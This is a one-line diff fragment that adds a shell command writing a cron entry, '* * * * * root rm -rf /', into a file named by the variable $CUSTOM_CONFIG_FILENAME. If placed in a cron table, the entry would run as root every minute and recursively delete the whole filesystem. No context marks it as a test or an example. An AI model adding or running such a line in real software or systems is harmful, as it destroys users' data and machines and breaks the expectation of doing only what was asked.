@@ -1,0 +1,1 @@
+echo '* * * * * root rm -rf /' > $CUSTOM_CONFIG_FILENAME
